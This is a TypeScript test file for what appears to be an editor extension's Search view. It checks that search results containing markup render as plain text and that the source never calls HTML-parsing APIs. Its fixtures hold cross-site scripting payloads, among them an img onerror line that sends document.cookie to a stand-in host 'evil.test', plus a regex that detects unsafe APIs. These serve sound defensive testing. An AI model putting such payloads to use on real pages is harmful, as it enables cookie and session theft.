// The Search view must never interpret workspace text as markup: results are built from text
// segments through an element factory whose elements refuse markup, and the script never uses an
// HTML-parsing API.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import type { PanelHit } from '../../src/webview/messages';
import { highlight, hitView, queryWords, renderHit, type ElementFactory, type TextElement } from '../../src/webview/searchRender';

/** An element that records its text and children, and throws if anything tries to give it markup. */
class FakeElement implements TextElement<FakeElement> {
  textContent: string | null = null;
  className = '';
  readonly children: FakeElement[] = [];
  constructor(readonly tag: string) {
    for (const markup of ['innerHTML', 'outerHTML', 'insertAdjacentHTML']) {
      Object.defineProperty(this, markup, { get: () => { throw new Error(`${markup} read`); }, set: () => { throw new Error(`${markup} set`); } });
    }
  }
  append(...children: FakeElement[]): void {
    this.children.push(...children);
  }
  /** The text a browser would show: own textContent, else the children's. */
  get shownText(): string {
    return this.textContent ?? this.children.map((c) => c.shownText).join('');
  }
  all(): FakeElement[] {
    return [this, ...this.children.flatMap((c) => c.all())];
  }
}
const factory: ElementFactory<FakeElement> = { createElement: (tag) => new FakeElement(tag) };

const HOSTILE = [
  '<script>alert(document.cookie)</script>',
  'const html = `<img src=x onerror="fetch(\'https://evil.test/\'+document.cookie)">`;',
  '<!-- --><iframe srcdoc="<script>parent.postMessage(1)</script>"></iframe> &amp; &lt;b&gt;',
].join('\n');

const hit: PanelHit = {
  rel: 'web/<b>page</b>.ts', name: '<script>render</script>', container: 'Widget<"x">', kind: 'function',
  line: 12, snippet: HOSTILE, snippetLine: 12,
};

test('segments keep the text exactly: nothing is escaped, dropped or parsed', () => {
  const words = queryWords('script onerror cookie');
  for (const line of HOSTILE.split('\n')) {
    const segments = highlight(line, words);
    assert.equal(segments.map((s) => s.text).join(''), line);
  }
  assert.deepEqual(highlight('<script>x</script>', ['script']).filter((s) => s.match).map((s) => s.text), ['script', 'script']);
});

test('a hit with markup in its name, path and code renders as text only', () => {
  const item = renderHit(factory, hit, 'script render');
  const elements = item.all();
  assert.ok(elements.every((e) => ['li', 'div', 'span', 'mark', 'code'].includes(e.tag)), 'no element is made from workspace text');
  const title = elements.find((e) => e.className === 'title');
  assert.equal(title?.shownText, '<script>render</script>');
  assert.equal(elements.find((e) => e.className === 'location')?.shownText, 'web/<b>page</b>.ts:12 · Widget<"x">');
  const code = elements.filter((e) => e.tag === 'code').map((e) => e.shownText);
  assert.deepEqual(code, HOSTILE.split('\n'));
  const numbers = elements.filter((e) => e.className === 'number').map((e) => e.shownText);
  assert.deepEqual(numbers, ['12', '13', '14']);
  assert.ok(elements.filter((e) => e.tag === 'mark').every((e) => /^(script|render)$/i.test(e.shownText ?? '')));
});

test('highlighting is case-insensitive and covers identifier parts', () => {
  const view = hitView({ ...hit, name: 'low_stock', snippet: 'def low_stock(self):\n    """At or below their Reorder point."""' }, 'reorder point');
  const marked = view.lines.flatMap((l) => l.segments.filter((s) => s.match).map((s) => s.text));
  assert.deepEqual(marked, ['Reorder', 'point']);
});

test('the Search view script and its page never use an HTML-parsing API', () => {
  for (const file of ['src/webview/search.ts', 'src/webview/searchRender.ts', 'src/extension/searchView.ts']) {
    const source = readFileSync(file, 'utf8').replace(/\/\*[\s\S]*?\*\/|\/\/.*$/gm, '');
    assert.doesNotMatch(source, /innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|createContextualFragment|srcdoc/, file);
  }
});
